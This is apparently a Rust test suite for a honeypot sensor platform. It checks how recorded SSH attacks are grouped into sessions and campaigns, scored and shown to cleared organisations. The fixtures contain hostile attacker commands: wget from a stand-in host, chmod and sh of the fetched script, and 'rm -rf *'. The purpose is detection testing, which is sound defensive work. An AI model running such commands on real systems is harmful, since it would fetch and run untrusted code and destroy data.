//! From events to sessions, campaigns, observables and decisions.

use crate::support::{Attack, Centre, SCHEMA, org};
use base::Tlp;
use events::sensor::{AttackClass, ObservableAssessed, ValueKind};
use logwire::attack::{Transport, What};
use sensor::model::{ObservableFilter, SessionFilter};
use store::page::Page;
use store::{Db, SystemKey};
use testkit::{START, all, clearance, each_db};

async fn assessed(db: &Db) -> Vec<ObservableAssessed> {
    let sql = "SELECT body FROM outbox WHERE kind = 'sensor.observable_assessed' ORDER BY seq";
    let rows = db.system_read(SystemKey::of("test"), sql, vec![]).await.unwrap();
    rows.iter()
        .map(|row| {
            let body: String = row.get("body").unwrap();
            let envelope: events::Envelope = serde_json::from_str(&body).unwrap();
            let events::Event::ObservableAssessed(told) = envelope.event else { panic!("another event") };
            told
        })
        .collect()
}

#[tokio::test]
async fn a_loader_becomes_a_session_an_observable_and_a_decision() {
    each_db(SCHEMA, |db, env| async move {
        let mut centre = Centre::open(db.clone(), env).await;
        let trap = centre.sensor(1, org(1)).await;
        let attack = Attack::new("s1", "203.0.113.7", START)
            .then(What::Fingerprint { version: "SSH-2.0-Go".into(), hassh: Some("0".repeat(32)) })
            .tries(&[("root", "a"), ("root", "b\u{0}"), ("root", "c")])
            .types(&["uname -a", "cd /tmp; wget http://198.51.100.9/x.sh"])
            .then(What::FileRef { url: "http://198.51.100.9/x.sh".into() })
            .closes();
        centre.send(&trap, 1, 1, &attack).await;

        let sessions = centre.reads.sessions(&all(), &SessionFilter::default(), &Page::default()).await.unwrap();
        assert_eq!(sessions.items.len(), 1);
        let session = &sessions.items[0];
        assert_eq!((session.class, session.attempts, session.commands), (AttackClass::Download, 3, 2));
        assert_eq!(session.client.as_deref(), Some("SSH-2.0-Go"));
        assert_eq!(session.sensor_name, "trap-1");

        let detail = centre.reads.session(&all(), session.id).await.unwrap();
        assert_eq!(detail.reason.rule, "file");
        assert_eq!(detail.urls, ["http://198.51.100.9/x.sh"]);
        assert_eq!(detail.events.len(), attack.len());
        let again: Vec<_> = detail
            .events
            .iter()
            .map(|event| serde_json::from_str::<logwire::attack::AttackEvent>(&event.body).unwrap())
            .collect();
        assert_eq!(again, attack, "the very events, as acknowledged");

        let source = centre.reads.observable(&all(), ValueKind::Ipv4, "203.0.113.7", None).await.unwrap();
        assert_eq!((source.class, source.sessions, source.sensors), (AttackClass::Download, 1, 1));
        assert!(source.score > 0.6, "{}", source.score);
        let told = assessed(&db).await;
        let mut values: Vec<&str> = told.iter().map(|event| event.value.as_str()).collect();
        values.sort_unstable();
        assert_eq!(values, ["203.0.113.7", "http://198.51.100.9/x.sh"]);
        assert!(told.iter().all(|event| event.sessions == [session.id]));
    })
    .await;
}

#[tokio::test]
async fn more_sensors_raise_the_band_once_each() {
    each_db(SCHEMA, |db, env| async move {
        let mut centre = Centre::open(db.clone(), env).await;
        for number in 1..=4 {
            let trap = centre.sensor(number, org(number)).await;
            let attack = Attack::new("s", "203.0.113.7", START).tries(&[("root", "x"), ("admin", "y")]).closes();
            centre.send(&trap, 1, 1, &attack).await;
            centre.send(&trap, 1, 1, &attack).await;
        }
        let scores: Vec<u8> = assessed(&db).await.iter().map(|told| sensor::score::band(told.score)).collect();
        assert_eq!(scores, [2, 3], "one decision per crossing, none for repeats");
        let source = centre.reads.observable(&all(), ValueKind::Ipv4, "203.0.113.7", None).await.unwrap();
        assert_eq!((source.sensors, source.orgs, source.sessions), (4, 4, 4));
        let parts: f64 = source.factors.iter().map(|factor| factor.part).sum();
        assert!((parts - source.score).abs() < 1e-9);
    })
    .await;
}

#[tokio::test]
async fn datagrams_and_silent_connections_mint_nothing() {
    each_db(SCHEMA, |db, env| async move {
        let mut centre = Centre::open(db.clone(), env).await;
        let trap = centre.sensor(1, org(1)).await;
        let mut events = Vec::new();
        for number in 0..50 {
            let mut forged =
                Attack::new(&format!("u{number}"), "203.0.113.9", START).then(What::UdpProbe { size: 64 }).events;
            forged.iter_mut().for_each(|event| event.transport = Transport::Udp);
            events.extend(forged);
            events.extend(Attack::new(&format!("t{number}"), "203.0.113.10", START).closes());
        }
        centre.send(&trap, 1, 1, &events).await;
        assert!(assessed(&db).await.is_empty());
        let missing = centre.reads.observable(&all(), ValueKind::Ipv4, "203.0.113.9", None).await;
        assert!(missing.is_err(), "a forged source is no source");
        let scanner = centre.reads.observable(&all(), ValueKind::Ipv4, "203.0.113.10", None).await.unwrap();
        assert_eq!((scanner.class, scanner.score), (AttackClass::Scan, 0.0));
        let udp = SessionFilter { class: Some(AttackClass::UdpProbe), ..SessionFilter::default() };
        assert_eq!(centre.reads.sessions(&all(), &udp, &Page::first(100)).await.unwrap().items.len(), 50);
    })
    .await;
}

#[tokio::test]
async fn a_flood_is_seen_from_both_sides() {
    each_db(SCHEMA, |db, env| async move {
        let mut centre = Centre::open(db, env).await;
        let trap = centre.sensor(1, org(1)).await;
        let mut seq = 1;
        for part in [0..59, 59..60] {
            let events: Vec<_> =
                part.flat_map(|n: u32| Attack::new(&format!("f{n}"), "203.0.113.11", START).closes()).collect();
            centre.send(&trap, 1, seq, &events).await;
            seq += events.len() as u64;
        }
        let bars = centre.reads.timeline(&all(), START, START.plus_secs(60)).await.unwrap();
        let counts: Vec<_> = bars.iter().map(|bar| (bar.class, bar.sessions, bar.events)).collect();
        assert_eq!(counts, [(AttackClass::Flood, 60, 120)]);
        let flood = SessionFilter { class: Some(AttackClass::Flood), ..SessionFilter::default() };
        let page = centre.reads.sessions(&all(), &flood, &Page::first(100)).await.unwrap();
        assert_eq!(page.items.len(), 60);
        let detail = centre.reads.session(&all(), page.items[0].id).await.unwrap();
        assert_eq!(detail.reason.rule, "many-empty-sessions");
        // One of them turns out to guess: the rest is below the edge again.
        let late = Attack::new("f0", "203.0.113.11", START.plus_secs(1)).tries(&[("root", "x")]).closes();
        centre.send(&trap, 1, seq, &late).await;
        let bars = centre.reads.timeline(&all(), START, START.plus_secs(60)).await.unwrap();
        let counts: Vec<_> = bars.iter().map(|bar| (bar.class, bar.sessions)).collect();
        assert_eq!(counts, [(AttackClass::CredentialSpray, 1), (AttackClass::Scan, 59)]);
        assert!(centre.reads.sessions(&all(), &flood, &Page::default()).await.unwrap().items.is_empty());
    })
    .await;
}

const LIST: &[(&str, &str)] = &[("root", "a"), ("admin", "b"), ("pi", "c")];

#[tokio::test]
async fn campaigns_join_by_what_is_shared_and_keep_the_older_id() {
    testkit::each_db_at(SCHEMA, |db, env, clock| async move {
        let mut centre = Centre::open(db, env).await;
        let trap = centre.sensor(1, org(1)).await;
        let typed = ["cd /tmp; rm -rf *; wget http://198.51.100.9/a.sh", "chmod 777 a.sh; sh a.sh", "rm -f a.sh; exit"];
        let other =
            ["cd /tmp; rm -rf *; wget http://198.51.100.77/a.sh", "chmod 777 a.sh; sh a.sh", "rm -f a.sh; exit"];
        let mut seq = 1;
        let mut campaigns = Vec::new();
        for (name, source, pairs, lines) in [
            ("a", "203.0.113.1", LIST, &[][..]),
            ("b", "203.0.113.2", &[][..], &typed[..]),
            ("c", "203.0.113.3", LIST, &[][..]),
            ("d", "203.0.113.4", &[][..], &other[..]),
            // Shares its list with a and c and its commands with b and d.
            ("e", "203.0.113.5", LIST, &typed[..]),
        ] {
            let attack = Attack::new(name, source, START).tries(pairs).types(lines).closes();
            centre.send(&trap, 1, seq, &attack).await;
            seq += attack.len() as u64;
            // Which one is older is told by the id, which holds milliseconds.
            clock.advance_secs(1);
            let filter = SessionFilter { source: Some(source.into()), ..SessionFilter::default() };
            let page = centre.reads.sessions(&all(), &filter, &Page::default()).await.unwrap();
            campaigns.push(page.items[0].campaign.unwrap());
        }
        let [a, b, c, d, e] = campaigns[..] else { panic!() };
        assert_eq!((a, b), (c, d));
        assert_ne!(a, b);
        assert_eq!(e, a, "the older one survives");
        let list = centre.reads.campaigns(&all(), &Page::default()).await.unwrap().items;
        assert_eq!(list.len(), 1);
        assert_eq!((list[0].id, list[0].sessions, list[0].sources), (a, 5, 5));
        assert_eq!(list[0].joined_by.as_deref(), Some("credentials"));
        let detail = centre.reads.campaign(&all(), b).await.unwrap();
        assert_eq!(detail.campaign.id, a, "the old name leads on");
        assert_eq!(detail.contacts.len(), 5);
        let mut kinds: Vec<&str> = detail.keys.iter().map(|key| key.kind.as_str()).collect();
        kinds.sort_unstable();
        kinds.dedup();
        assert_eq!(kinds, ["commands", "credentials", "host"]);
        let filter = SessionFilter { campaign: Some(a), ..SessionFilter::default() };
        assert_eq!(centre.reads.sessions(&all(), &filter, &Page::default()).await.unwrap().items.len(), 5);
    })
    .await;
}

#[tokio::test]
async fn others_see_what_they_are_cleared_for() {
    each_db(SCHEMA, |db, env| async move {
        let mut centre = Centre::open(db.clone(), env).await;
        for number in 1..=2 {
            db.commit(store::Unit::new(store::Actor::Stranger, START).exec(
                "INSERT INTO org_closure (ancestor_id, descendant_id) VALUES ($1, $1)",
                store::params![org(number)],
            ))
            .await
            .unwrap();
            let trap = centre.sensor(number, org(number)).await;
            let attack = Attack::new("s", "203.0.113.7", START).tries(LIST).closes();
            centre.send(&trap, 1, 1, &attack).await;
        }
        let trap = centre.sensor(3, org(2)).await;
        centre.send(&trap, 1, 1, &Attack::new("s", "10.0.0.5", START).tries(LIST).closes()).await;
        let one = clearance(org(1), Tlp::Amber, Tlp::Green);
        let sessions = centre.reads.sessions(&one, &SessionFilter::default(), &Page::default()).await.unwrap();
        assert_eq!(sessions.items.len(), 1);
        let source = centre.reads.observable(&one, ValueKind::Ipv4, "203.0.113.7", None).await.unwrap();
        assert_eq!((source.orgs, source.org), (2, None), "that others saw it, not who");
        let list = centre.reads.observables(&one, &ObservableFilter::default(), &Page::default()).await.unwrap();
        assert_eq!(list.items.len(), 1, "the other's inside address is not shown");
        let campaign = &centre.reads.campaigns(&one, &Page::default()).await.unwrap().items[0];
        assert_eq!(centre.reads.campaign(&one, campaign.id).await.unwrap().contacts.len(), 1);
        let theirs = centre
            .reads
            .sessions(&all(), &SessionFilter { org: Some(org(2)), ..SessionFilter::default() }, &Page::default())
            .await
            .unwrap();
        assert!(centre.reads.session(&one, theirs.items[0].id).await.is_err(), "as if it were absent");
        let everything = centre.reads.totals(&all()).await.unwrap();
        assert_eq!((everything.sessions_day, everything.sources_day, everything.campaigns_day), (3, 2, 1));
        let own = centre.reads.totals(&one).await.unwrap();
        assert_eq!((own.sessions_day, own.sources_day), (1, 1));
    })
    .await;
}

#[tokio::test]
async fn pages_go_on_where_they_ended() {
    each_db(SCHEMA, |db, env| async move {
        let mut centre = Centre::open(db, env).await;
        let trap = centre.sensor(1, org(1)).await;
        let events: Vec<_> = (0..7)
            .flat_map(|n| {
                Attack::new(&format!("p{n}"), &format!("203.0.113.{}", n + 1), START.plus_secs(n)).tries(LIST).closes()
            })
            .collect();
        centre.send(&trap, 1, 1, &events).await;
        let (mut seen, mut page) = (Vec::new(), Page::first(3));
        loop {
            let part = centre.reads.sessions(&all(), &SessionFilter::default(), &page).await.unwrap();
            seen.extend(part.items.iter().map(|session| session.src_ip.clone()));
            let Some(next) = part.next else { break };
            page.after = Some(next);
        }
        let want: Vec<String> = (1..=7).rev().map(|n| format!("203.0.113.{n}")).collect();
        assert_eq!(seen, want);
        let foreign = Page { after: Some("nonsense".into()), limit: 3 };
        assert!(centre.reads.observables(&all(), &ObservableFilter::default(), &foreign).await.is_err());
        let first = centre.reads.observables(&all(), &ObservableFilter::default(), &Page::first(5)).await.unwrap();
        let rest = Page { after: first.next, limit: 5 };
        let rest = centre.reads.observables(&all(), &ObservableFilter::default(), &rest).await.unwrap();
        assert_eq!((first.items.len(), rest.items.len()), (5, 2));
    })
    .await;
}

#[tokio::test]
async fn a_session_that_is_never_closed_joins_its_campaign_when_idle() {
    testkit::each_db_at(SCHEMA, |db, env, clock| async move {
        let mut centre = Centre::open(db, env).await;
        let trap = centre.sensor(1, org(1)).await;
        centre.send(&trap, 1, 1, &Attack::new("open", "203.0.113.7", START).tries(LIST).events).await;
        let find = || SessionFilter::default();
        let before = centre.reads.sessions(&all(), &find(), &Page::default()).await.unwrap().items;
        assert_eq!(before[0].campaign, None);
        clock.advance_secs(121);
        centre.history.catch_up().await.unwrap();
        let after = centre.reads.sessions(&all(), &find(), &Page::default()).await.unwrap().items;
        assert!(after[0].campaign.is_some());
        assert_eq!(after[0].events, before[0].events);
    })
    .await;
}

#[tokio::test]
async fn an_old_log_raises_no_alarm_today() {
    each_db(SCHEMA, |db, env| async move {
        let mut centre = Centre::open(db.clone(), env).await;
        let trap = centre.sensor(1, org(1)).await;
        let old = START.plus_secs(-400 * 86_400);
        let attack = Attack::new("old", "203.0.113.7", old).types(&["wget http://198.51.100.9/x"]).closes();
        let early = Attack::new("ahead", "203.0.113.8", START.plus_secs(86_400)).tries(LIST).closes();
        centre.send(&trap, 1, 1, &[attack, early].concat()).await;
        assert!(assessed(&db).await.is_empty());
        let filter = SessionFilter { source: Some("203.0.113.8".into()), ..SessionFilter::default() };
        let ahead = centre.reads.sessions(&all(), &filter, &Page::default()).await.unwrap().items;
        assert_eq!(ahead[0].opened_at, START, "a clock ahead of ours counts at arrival");
    })
    .await;
}

#[tokio::test]
async fn a_score_leaves_its_band_by_itself_and_rises_again() {
    testkit::each_db_at(SCHEMA, |db, env, clock| async move {
        let mut centre = Centre::open(db.clone(), env.clone()).await;
        let trap = centre.sensor(1, org(1)).await;
        let loader = |name: &str| {
            let fetch = What::FileRef { url: "http://198.51.100.9/x".into() };
            Attack::new(name, "203.0.113.7", env.now()).then(fetch).closes()
        };
        centre.send(&trap, 1, 1, &loader("one")).await;
        assert_eq!(assessed(&db).await.len(), 2, "the address and the URL");
        clock.advance_secs(20 * 86_400);
        centre.history.catch_up().await.unwrap();
        let score = async |centre: &Centre| {
            centre.reads.observable(&all(), ValueKind::Ipv4, "203.0.113.7", None).await.unwrap().score
        };
        assert!(score(&centre).await < 0.01);
        assert_eq!(assessed(&db).await.len(), 2, "fading decides nothing");
        centre.send(&trap, 1, 4, &loader("two")).await;
        assert!(score(&centre).await > 0.6);
        assert_eq!(assessed(&db).await.len(), 4, "what comes back is a new decision");
    })
    .await;
}

#[test]
fn the_worker_and_the_services_can_be_spawned() {
    const fn send<T: Send>(_: &T) {}
    fn futures(centre: Centre, trap: &sensor::fleet::Admitted, caller: &access::Caller) {
        send(&centre.intake.accept_batch(trap, 1, 1, b""));
        send(&centre.intake.accept_lines(caller, org(1), logwire::Format::Cowrie, std::iter::empty()));
        send(&centre.fleet.revoke(caller, trap.sensor));
        send(&centre.fleet.watch());
        send(&centre.reads.totals(caller.clearance()));
        send(&centre.history.run(tokio_util::sync::CancellationToken::new()));
    }
    let _compiles = futures;
}
